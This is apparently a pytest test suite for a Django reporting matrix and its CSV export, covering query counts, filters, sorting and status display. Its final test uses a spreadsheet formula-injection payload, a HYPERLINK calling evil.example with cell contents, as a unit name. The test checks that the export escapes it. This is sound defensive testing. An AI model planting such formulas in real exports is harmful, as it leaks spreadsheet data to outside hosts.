import csv
import datetime
import io

import pytest
from django.urls import reverse

from circulars.models import UnitKind
from circulars.services import publish_circular
from reporting.exports.formulas import starts_formula
from reporting.matrix import build_matrix
from reporting.models import Report
from reporting.services import return_report
from tests import factories

from .review_helpers import filled_report, submitted_report

pytestmark = pytest.mark.django_db

DEADLINE = datetime.date(2027, 2, 20)


def units_with_reports(count: int, years: int = 1):
    factories.UnitFactory.create_batch(count)
    for year in range(2026 - years + 1, 2027):
        factories.published_circular(
            audience=(UnitKind.ETAT, UnitKind.BYDEL),
            year=year,
            reporting_year=year,
            deadline=DEADLINE.replace(year=year + 1),
        )


@pytest.mark.parametrize(("count", "years"), [(10, 1), (80, 3)])
def test_the_matrix_query_count_does_not_grow_with_units_or_years(
    client, adviser, count, years, django_assert_max_num_queries
):
    units_with_reports(count, years)
    client.force_login(adviser)
    with django_assert_max_num_queries(14):
        response = client.get(reverse("reporting:matrix"))
    assert response.status_code == 200
    assert response.content.decode().count('name="reports"') == count


@pytest.mark.parametrize("count", [10, 80])
def test_the_csv_query_count_does_not_grow_with_units(
    client, adviser, count, django_assert_max_num_queries
):
    units_with_reports(count)
    client.force_login(adviser)
    with django_assert_max_num_queries(10):
        response = client.get(reverse("reporting:matrix_csv"))
    assert len(response.content.decode("utf-8-sig").splitlines()) == count + 1


def test_rows_are_grouped_by_kind_with_status_and_section_progress(
    client, unit, contact, other_unit, adviser
):
    submitted_report(unit, contact, audience=(UnitKind.BYDEL, UnitKind.ETAT))
    client.force_login(adviser)
    page = client.get(reverse("reporting:matrix")).content.decode()
    assert "<caption>Bydel (1)</caption>" in page
    assert "<caption>Etat (1)</caption>" in page
    assert "Ferdig utfylt" in page
    assert "Ikke påbegynt" in page
    matrix = build_matrix(year=2026)
    assert matrix.counts["submitted"] == 1
    assert [c.topic for c in matrix.columns] == ["funksjonsnedsettelse"]
    assert matrix.complete_per_column == [1]


def test_sections_with_the_same_topic_share_a_column(unit, other_unit):
    for audience, number in ((UnitKind.BYDEL, "4.3.1"), (UnitKind.ETAT, "4.3")):
        circular = factories.CircularFactory(audience=[audience])
        factories.SectionFactory(
            circular=circular, number=number, topic="funksjonsnedsettelse"
        )
        publish_circular(circular=circular, by=None)
    factories.SectionFactory(
        circular=factories.CircularFactory(), topic="utkast-tema"
    )  # a draft's sections are no column
    columns = build_matrix(year=2026).columns
    assert [(c.topic, sorted(c.numbers)) for c in columns] == [
        ("funksjonsnedsettelse", ["4.3", "4.3.1"])
    ]


def test_a_topic_a_unit_was_not_asked_is_marked_not_applicable(
    client, unit, other_unit, adviser
):
    for audience, topics in (
        (UnitKind.BYDEL, ["funksjonsnedsettelse", "diskriminering"]),
        (UnitKind.ETAT, ["funksjonsnedsettelse"]),
    ):
        circular = factories.CircularFactory(audience=[audience])
        for topic in topics:
            factories.SectionFactory(circular=circular, topic=topic)
        publish_circular(circular=circular, by=None)
    client.force_login(adviser)
    page = client.get(reverse("reporting:matrix")).content.decode()
    csv_lines = client.get(reverse("reporting:matrix_csv")).content.decode("utf-8-sig")
    etat = next(line for line in csv_lines.splitlines() if line.startswith("Helse"))
    bydel = next(line for line in csv_lines.splitlines() if line.startswith("Bydel"))
    assert page.count('<span class="pkt-sr-only">Ikke aktuelt</span>') == 1
    assert etat.endswith(";Ikke påbegynt;Ikke aktuelt")
    assert bydel.endswith(";Ikke påbegynt;Ikke påbegynt")


def test_late_units_count_as_overdue_with_their_days_late(unit, contact):
    filled_report(unit, contact, deadline=DEADLINE)
    matrix = build_matrix(year=2026, today=DEADLINE + datetime.timedelta(days=5))
    assert matrix.rows[0].days_late == 5
    assert matrix.counts["overdue"] == 1


def test_filters_by_kind_and_status(client, unit, contact, other_unit, adviser):
    report = submitted_report(unit, contact, audience=(UnitKind.BYDEL, UnitKind.ETAT))
    return_report(report=report, reason="Rett", by=adviser)
    client.force_login(adviser)
    page = client.get(
        reverse("reporting:matrix"), {"kind": "etat", "status": "draft"}
    ).content.decode()
    assert "Helseetaten" in page
    assert "Bydel Frogner" not in page
    page = client.get(
        reverse("reporting:matrix"), {"status": "returned"}
    ).content.decode()
    assert "Bydel Frogner" in page
    assert "Helseetaten" not in page


def test_the_matrix_defaults_to_the_advisers_portfolio(
    client, unit, other_unit, adviser
):
    factories.published_circular(audience=(UnitKind.BYDEL, UnitKind.ETAT))
    adviser.portfolio.create(unit=unit)
    client.force_login(adviser)
    page = client.get(reverse("reporting:matrix")).content.decode()
    assert "Bydel Frogner" in page
    assert "Helseetaten" not in page
    page = client.get(reverse("reporting:matrix"), {"units": "alle"}).content.decode()
    assert "Helseetaten" in page


def test_sorting_by_unit_name_descending(adviser):
    for name in ("Alfa etat", "Beta etat", "Gamma etat"):
        factories.UnitFactory(name=name)
    factories.published_circular()
    names = [r.report.unit.name for r in build_matrix(year=2026, sort="-enhet").rows]
    assert names == ["Gamma etat", "Beta etat", "Alfa etat"]


def test_csv_export_has_one_line_per_report(client, unit, contact, adviser):
    submitted_report(unit, contact)
    client.force_login(adviser)
    response = client.get(reverse("reporting:matrix_csv"))
    lines = response.content.decode("utf-8-sig").splitlines()
    assert response["Content-Type"].startswith("text/csv")
    assert lines[0].startswith("Enhet;Type;Rundskriv;Status")
    assert lines[1].startswith("Bydel Frogner;Bydel;")
    assert "Sendt inn" in lines[1]
    assert Report.objects.count() == 1


def test_an_empty_matrix_says_there_is_nothing_yet(client, adviser):
    client.force_login(adviser)
    response = client.get(reverse("reporting:matrix"), {"year": "abc", "sort": "x"})
    assert response.status_code == 200
    assert "Ingen rapporter passer med filteret." in response.content.decode()


def test_a_unit_named_like_a_formula_is_text_in_the_csv(client, unit, contact, adviser):
    unit.name = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")'
    unit.save()
    submitted_report(unit, contact)
    client.force_login(adviser)
    response = client.get(reverse("reporting:matrix_csv"))
    rows = list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )
    assert rows[1][0] == "'" + unit.name
    assert not [field for row in rows for field in row if starts_formula(field)]
